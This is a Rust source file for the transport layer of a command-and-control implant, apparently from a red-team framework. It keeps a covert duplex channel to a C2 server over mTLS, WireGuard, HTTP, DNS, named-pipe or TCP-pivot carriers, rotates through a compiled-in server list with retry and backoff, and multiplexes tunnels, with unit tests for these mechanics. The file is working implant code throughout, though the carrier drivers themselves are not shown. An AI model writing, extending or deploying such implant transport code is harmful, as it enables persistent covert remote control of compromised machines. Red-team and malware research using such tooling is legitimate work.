//! The transport multiplexer. Maintains one logical duplex envelope
//! channel to a command-and-control server over whichever carrier
//! protocol answers first, and keeps rotating through the compiled-in
//! server list until one does.
//!
//! Every carrier presents the same contract: `connect(uri)` either fails
//! or produces a [`Connection`] whose background tasks are already
//! pumping envelopes both ways. The upper implant layers only ever see
//! the [`Connection`] façade; carrier errors never escape this module.

use crate::{
    config,
    envelope::{msg, Envelope},
    state,
};
use log::{debug, error};
use parking_lot::{Mutex, RwLock};
use std::{
    collections::HashMap,
    io,
    sync::{
        atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering},
        Arc,
    },
    time::Duration,
};
use thiserror::Error;
use tokio::{
    io::{AsyncRead, AsyncWrite},
    sync::mpsc,
    time,
};
use tokio_util::sync::CancellationToken;
use url::Url;

pub mod selector;

#[cfg(feature = "dns")]
mod dns;
#[cfg(feature = "http")]
mod http;
#[cfg(feature = "mtls")]
mod mtls;
#[cfg(all(windows, feature = "named-pipe"))]
mod pipe;
#[cfg(any(
    feature = "mtls",
    feature = "tcp-pivot",
    all(windows, feature = "named-pipe")
))]
mod stream;
#[cfg(feature = "tcp-pivot")]
mod tcp_pivot;
#[cfg(feature = "wg")]
mod wireguard;

/// Capacity of the outbound and inbound envelope queues. Small enough
/// that a stalled peer exerts backpressure quickly.
const QUEUE_SIZE: usize = 64;

/// Errors that can occur while establishing a carrier connection. These
/// stay inside the transport layer; the supervisor translates them into
/// retry-or-give-up.
#[derive(Debug, Error)]
pub enum ConnectError {
    /// The server URI is missing a required component for its carrier
    #[error("invalid server uri")]
    InvalidUri,

    /// Underlying socket or handshake I/O failure
    #[error("io error: {0}")]
    Io(#[from] io::Error),

    /// TLS configuration or handshake failure
    #[cfg(feature = "mtls")]
    #[error("tls error: {0}")]
    Tls(#[from] tokio_rustls::rustls::Error),

    /// HTTP session registration failure
    #[cfg(feature = "http")]
    #[error("http error: {0}")]
    Http(#[from] reqwest::Error),

    /// DNS resolution failure during session setup
    #[cfg(feature = "dns")]
    #[error("dns error: {0}")]
    Resolve(#[from] hickory_resolver::error::ResolveError),

    /// The server's DNS session reply was malformed
    #[cfg(feature = "dns")]
    #[error("malformed dns session reply")]
    DnsSession,

    /// The compiled WireGuard key material is unusable
    #[cfg(feature = "wg")]
    #[error("invalid wireguard configuration")]
    WireguardConfig,

    /// The WireGuard handshake or virtual connect timed out
    #[cfg(feature = "wg")]
    #[error("wireguard handshake timed out")]
    WireguardTimeout,
}

/// Teardown closure releasing whatever the carrier holds open. Runs at
/// most once per connection.
pub type CleanupFn = Box<dyn FnOnce() + Send>;

/// Abstract duplex connection to the server.
///
/// Owns the bounded envelope queues, the registry of tunnels riding the
/// channel and the once-only cleanup. All carrier drivers produce one of
/// these; the differences between carriers end at this boundary.
pub struct Connection {
    /// Producer half of the outbound envelope queue
    send_tx: mpsc::Sender<Envelope>,
    /// Consumer half of the inbound envelope queue. The upper layer is
    /// the only consumer so an async mutex is just serializing intent.
    recv_rx: tokio::sync::Mutex<mpsc::Receiver<Envelope>>,
    /// Signal stopping polling-style carrier tasks
    ctrl: CancellationToken,
    /// Tunnels currently multiplexed over this connection. Lookups far
    /// outnumber mutations, readers must not block each other.
    tunnels: RwLock<HashMap<u64, Arc<Tunnel>>>,
    /// Whether the connection is still usable
    open: AtomicBool,
    /// Carrier teardown, taken exactly once by [`Connection::cleanup`]
    cleanup: Mutex<Option<CleanupFn>>,
}

impl Connection {
    /// Creates a new open connection from its channel halves and the
    /// carrier teardown closure
    fn new(
        send_tx: mpsc::Sender<Envelope>,
        recv_rx: mpsc::Receiver<Envelope>,
        ctrl: CancellationToken,
        cleanup: CleanupFn,
    ) -> Arc<Connection> {
        Arc::new(Connection {
            send_tx,
            recv_rx: tokio::sync::Mutex::new(recv_rx),
            ctrl,
            tunnels: RwLock::new(HashMap::new()),
            open: AtomicBool::new(true),
            cleanup: Mutex::new(Some(cleanup)),
        })
    }

    /// Enqueues an envelope for transmission, waiting while the queue is
    /// full. Envelopes offered after the connection closed are silently
    /// discarded; loss across reconnects is the upper layer's problem.
    pub async fn send(&self, envelope: Envelope) {
        if !self.is_open() {
            return;
        }
        let _ = self.send_tx.send(envelope).await;
    }

    /// Dequeues the next inbound envelope, waiting until one arrives.
    /// Returns [`None`] once the connection has closed and the queue has
    /// drained.
    pub async fn recv(&self) -> Option<Envelope> {
        self.recv_rx.lock().await.recv().await
    }

    /// Enqueues a tunnel-data envelope asking the peer to resend
    pub async fn request_resend(&self, data: Vec<u8>) {
        self.send(Envelope::new(msg::TUNNEL_DATA, data)).await;
    }

    /// Looks up a tunnel by its identifier
    pub fn tunnel(&self, id: u64) -> Option<Arc<Tunnel>> {
        self.tunnels.read().get(&id).cloned()
    }

    /// Attaches a tunnel to this connection
    pub fn add_tunnel(&self, tunnel: Arc<Tunnel>) {
        self.tunnels.write().insert(tunnel.id, tunnel);
    }

    /// Detaches a tunnel from this connection
    pub fn remove_tunnel(&self, id: u64) {
        self.tunnels.write().remove(&id);
    }

    /// Whether the connection is still usable
    pub fn is_open(&self) -> bool {
        self.open.load(Ordering::SeqCst)
    }

    /// Tears the connection down. Any task may call this on any failure
    /// path; the body runs exactly once no matter how many racers arrive.
    ///
    /// The carrier resource is released first, then the control token
    /// fires which makes the reader and writer tasks exit and drop their
    /// queue endpoints, which in turn closes both queues.
    pub fn cleanup(&self) {
        let cleanup = self.cleanup.lock().take();
        if let Some(cleanup) = cleanup {
            cleanup();
            self.ctrl.cancel();
            self.tunnels.write().clear();
            self.open.store(false, Ordering::SeqCst);
            state::clear_active_connection(self);
        }
    }
}

/// Duplex byte-stream multiplexed inside the envelope channel.
///
/// Tunnels are created by the upper layer and attached to the active
/// connection; they die with it. The per-direction sequence counters are
/// stamped onto each chunk so the peer can reassemble in order.
pub struct Tunnel {
    /// Identifier assigned by the upper layer
    pub id: u64,
    /// Source of bytes flowing towards the peer
    pub reader: tokio::sync::Mutex<Box<dyn AsyncRead + Send + Unpin>>,
    /// Sink for bytes flowing from the peer
    pub writer: tokio::sync::Mutex<Box<dyn AsyncWrite + Send + Unpin>>,
    read_sequence: AtomicU64,
    write_sequence: AtomicU64,
}

impl Tunnel {
    pub fn new(
        id: u64,
        reader: Box<dyn AsyncRead + Send + Unpin>,
        writer: Box<dyn AsyncWrite + Send + Unpin>,
    ) -> Tunnel {
        Tunnel {
            id,
            reader: tokio::sync::Mutex::new(reader),
            writer: tokio::sync::Mutex::new(writer),
            read_sequence: AtomicU64::new(0),
            write_sequence: AtomicU64::new(0),
        }
    }

    pub fn read_sequence(&self) -> u64 {
        self.read_sequence.load(Ordering::SeqCst)
    }

    /// Advances the read sequence returning the value to stamp onto the
    /// current chunk
    pub fn next_read_sequence(&self) -> u64 {
        self.read_sequence.fetch_add(1, Ordering::SeqCst)
    }

    pub fn write_sequence(&self) -> u64 {
        self.write_sequence.load(Ordering::SeqCst)
    }

    /// Advances the write sequence returning the value to stamp onto the
    /// current chunk
    pub fn next_write_sequence(&self) -> u64 {
        self.write_sequence.fetch_add(1, Ordering::SeqCst)
    }
}

/// Starts the main connection loop, rotating through the compiled server
/// list until a carrier answers or the attempt budget runs out.
///
/// Returns [`None`] once `max_connection_errors` attempts have failed;
/// whether to exit, sleep long or persist is the caller's policy.
pub async fn start_connection_loop() -> Option<Arc<Connection>> {
    debug!("Starting connection loop");

    // Never dial while a previous connection still reports open
    if let Some(connection) = state::active_connection() {
        if connection.is_open() {
            return Some(connection);
        }
    }

    attempt_loop(
        config::SERVERS,
        config::CONNECTION_STRATEGY,
        state::server_cursor(),
        config::max_connection_errors(),
    )
    .await
}

/// Connection loop over an explicit server list and attempt budget
async fn attempt_loop(
    servers: &[&str],
    strategy: &str,
    cursor: &AtomicUsize,
    max_errors: usize,
) -> Option<Arc<Connection>> {
    let mut attempts = 0;
    while attempts < max_errors {
        let uri = match selector::next_server(servers, strategy, cursor) {
            Ok(value) => value,
            Err(err) => {
                // Nothing in the list will ever parse, retrying is futile
                error!("Server selection failed: {err}");
                return None;
            }
        };

        debug!("Next C2 = {uri}");

        match dial(&uri).await {
            // Carrier disabled at build time or unknown scheme: skip the
            // server without spending an attempt
            None => {
                debug!("Unknown or disabled C2 scheme: {}", uri.scheme());
            }
            Some(Ok(connection)) => {
                state::set_active_c2(uri.as_str());
                state::set_active_connection(connection.clone());
                return Some(connection);
            }
            Some(Err(err)) => {
                debug!("[{}] Connection failed: {err}", uri.scheme());
                attempts += 1;
            }
        }

        let reconnect = get_reconnect_interval();
        debug!("Sleeping {} second(s)", reconnect.as_secs());
        time::sleep(reconnect).await;
    }

    debug!("Max connection errors reached");
    None
}

/// Dispatches a connection attempt to the carrier driver selected by the
/// URI scheme. Returns [`None`] for schemes this build doesn't carry.
async fn dial(uri: &Url) -> Option<Result<Arc<Connection>, ConnectError>> {
    match uri.scheme() {
        #[cfg(feature = "mtls")]
        "mtls" => Some(mtls::connect(uri).await),

        #[cfg(feature = "wg")]
        "wg" => Some(wireguard::connect(uri).await),

        #[cfg(feature = "http")]
        "http" | "https" => Some(http::connect(uri).await),

        #[cfg(feature = "dns")]
        "dns" => Some(dns::connect(uri).await),

        #[cfg(all(windows, feature = "named-pipe"))]
        "namedpipe" => Some(pipe::connect(uri).await),

        #[cfg(feature = "tcp-pivot")]
        "tcppivot" => Some(tcp_pivot::connect(uri).await),

        _ => None,
    }
}

/// Returns the URI of the C2 in use, empty if never connected
pub fn get_active_c2() -> String {
    state::active_c2()
}

/// Returns the currently active connection if any
pub fn get_active_connection() -> Option<Arc<Connection>> {
    state::active_connection()
}

/// Returns the URL of the proxy in use, "none" when not proxied
pub fn get_proxy_url() -> String {
    match state::proxy_url() {
        Some(value) if !value.is_empty() => value,
        _ => "none".to_string(),
    }
}

/// Returns the interval slept between failed connection attempts: the
/// runtime override when one was set, otherwise the compiled value
pub fn get_reconnect_interval() -> Duration {
    match state::reconnect_override() {
        Some(seconds) => Duration::from_secs(seconds),
        None => config::reconnect_interval(),
    }
}

/// Overrides the compiled reconnect interval
pub fn set_reconnect_interval(seconds: u64) {
    state::set_reconnect_override(seconds);
}

/// Returns the poll interval for push-by-polling carriers: the runtime
/// override when one was set, otherwise the compiled value
pub fn get_poll_interval() -> Duration {
    match state::poll_override() {
        Some(seconds) => Duration::from_secs(seconds),
        None => config::poll_interval(),
    }
}

/// Overrides the compiled poll interval
pub fn set_poll_interval(seconds: u64) {
    state::set_poll_override(seconds);
}

#[cfg(test)]
mod test {
    use super::{attempt_loop, CleanupFn, Connection, Tunnel};
    use crate::envelope::{msg, Envelope};
    use std::sync::{
        atomic::{AtomicUsize, Ordering},
        Arc,
    };
    use std::time::{Duration, Instant};
    use tokio::{io, sync::mpsc};
    use tokio_util::sync::CancellationToken;

    fn test_connection(cleanup: CleanupFn) -> (Arc<Connection>, mpsc::Receiver<Envelope>) {
        let (send_tx, send_rx) = mpsc::channel(8);
        let (_, recv_rx) = mpsc::channel(8);
        let connection = Connection::new(send_tx, recv_rx, CancellationToken::new(), cleanup);
        (connection, send_rx)
    }

    fn test_tunnel(id: u64) -> Arc<Tunnel> {
        Arc::new(Tunnel::new(
            id,
            Box::new(io::empty()),
            Box::new(io::sink()),
        ))
    }

    /// Tests that the cleanup body runs exactly once no matter how many
    /// tasks race to trigger it, and that the registry is cleared and
    /// the connection reports closed afterwards
    #[tokio::test]
    async fn test_cleanup_once() {
        let counter = Arc::new(AtomicUsize::new(0));
        let cleanup_counter = counter.clone();
        let (connection, _send_rx) =
            test_connection(Box::new(move || {
                cleanup_counter.fetch_add(1, Ordering::SeqCst);
            }));

        connection.add_tunnel(test_tunnel(7));
        connection.add_tunnel(test_tunnel(42));

        // Race cleanup from several tasks like a reader and writer
        // observing the same failure would
        let mut handles = Vec::new();
        for _ in 0..8 {
            let connection = connection.clone();
            handles.push(tokio::spawn(async move { connection.cleanup() }));
        }
        for handle in handles {
            handle.await.unwrap();
        }

        assert_eq!(counter.load(Ordering::SeqCst), 1);
        assert!(!connection.is_open());
        assert!(connection.tunnel(7).is_none());
        assert!(connection.tunnel(42).is_none());
    }

    /// Tests that sends after cleanup are discarded silently
    #[tokio::test]
    async fn test_send_after_cleanup_discarded() {
        let (connection, mut send_rx) = test_connection(Box::new(|| {}));

        connection.send(Envelope::ping()).await;
        assert!(send_rx.try_recv().is_ok());

        connection.cleanup();
        connection.send(Envelope::ping()).await;
        assert!(send_rx.try_recv().is_err());
    }

    /// Tests tunnel registry consistency under concurrent mutation and
    /// lookup from many tasks
    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn test_tunnel_registry_concurrent() {
        let (connection, _send_rx) = test_connection(Box::new(|| {}));

        let mut handles = Vec::new();
        for id in 0..32u64 {
            let connection = connection.clone();
            handles.push(tokio::spawn(async move {
                connection.add_tunnel(test_tunnel(id));
                // Lookups must observe either the pre or post state
                let found = connection.tunnel(id);
                assert!(found.is_none() || found.unwrap().id == id);
                if id % 2 == 0 {
                    connection.remove_tunnel(id);
                }
            }));
        }
        for handle in handles {
            handle.await.unwrap();
        }

        for id in 0..32u64 {
            let found = connection.tunnel(id);
            if id % 2 == 0 {
                assert!(found.is_none());
            } else {
                assert_eq!(found.unwrap().id, id);
            }
        }
    }

    /// Tests that request_resend enqueues a tunnel-data envelope
    #[tokio::test]
    async fn test_request_resend() {
        let (connection, mut send_rx) = test_connection(Box::new(|| {}));

        connection.request_resend(vec![1, 2, 3]).await;

        let envelope = send_rx.try_recv().unwrap();
        assert_eq!(envelope.r#type, msg::TUNNEL_DATA);
        assert_eq!(envelope.data, vec![1, 2, 3]);
    }

    /// Tests that tunnel sequence counters advance monotonically per
    /// direction
    #[test]
    fn test_tunnel_sequences() {
        let tunnel = test_tunnel(9);
        assert_eq!(tunnel.next_read_sequence(), 0);
        assert_eq!(tunnel.next_read_sequence(), 1);
        assert_eq!(tunnel.read_sequence(), 2);
        assert_eq!(tunnel.next_write_sequence(), 0);
        assert_eq!(tunnel.write_sequence(), 1);
    }

    /// Tests that the supervisor performs no more than the attempt
    /// budget of failed connects and sleeps the reconnect interval
    /// between attempts. Both compiled servers refuse the connection
    /// so the loop must return within the budget.
    #[cfg(feature = "tcp-pivot")]
    #[tokio::test]
    async fn test_attempt_budget_and_backoff() {
        // Nothing listens on these ports in any sane environment
        let servers = &["tcppivot://127.0.0.1:1", "tcppivot://127.0.0.1:1"];
        let cursor = AtomicUsize::new(0);

        super::set_reconnect_interval(1);

        let start = Instant::now();
        let result = attempt_loop(servers, "s", &cursor, 2).await;
        let elapsed = start.elapsed();

        assert!(result.is_none());
        // Two failed attempts, each followed by the reconnect sleep
        assert!(elapsed >= Duration::from_secs(2));
        assert_eq!(cursor.load(Ordering::SeqCst), 2);
    }

    /// Tests that an unknown or disabled C2 scheme is skipped without
    /// spending an attempt while still sleeping the reconnect interval.
    /// With a budget of one, the loop must get past the unknown scheme
    /// and fail on the refused pivot before returning.
    #[cfg(feature = "tcp-pivot")]
    #[tokio::test]
    async fn test_unknown_scheme_skipped() {
        let servers = &["gopher://127.0.0.1:1", "tcppivot://127.0.0.1:1"];
        let cursor = AtomicUsize::new(0);

        super::set_reconnect_interval(1);

        let start = Instant::now();
        let result = attempt_loop(servers, "s", &cursor, 1).await;
        let elapsed = start.elapsed();

        assert!(result.is_none());
        // The skip didn't count against the budget, so the selector
        // reached the second server before the single attempt was spent
        assert_eq!(cursor.load(Ordering::SeqCst), 2);
        // One sleep after the skip, one after the failed attempt
        assert!(elapsed >= Duration::from_secs(2));
    }

    /// Tests that a successful connect publishes the process-wide
    /// active C2 and connection state
    #[cfg(feature = "tcp-pivot")]
    #[tokio::test]
    async fn test_connect_publishes_state() {
        use tokio::net::TcpListener;

        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let uri = format!("tcppivot://127.0.0.1:{port}");

        let servers = &[uri.as_str()];
        let cursor = AtomicUsize::new(0);
        let (connection, accepted) = tokio::join!(attempt_loop(servers, "s", &cursor, 1), async {
            listener.accept().await
        });
        accepted.unwrap();

        let connection = connection.unwrap();
        assert!(connection.is_open());
        assert_eq!(super::get_active_c2(), uri);
        assert!(super::get_active_connection().is_some());

        connection.cleanup();
        assert!(!connection.is_open());
    }

    /// Tests that interval overrides win over the compiled defaults
    #[test]
    fn test_interval_overrides() {
        super::set_poll_interval(3);
        assert_eq!(super::get_poll_interval(), Duration::from_secs(3));
    }
}
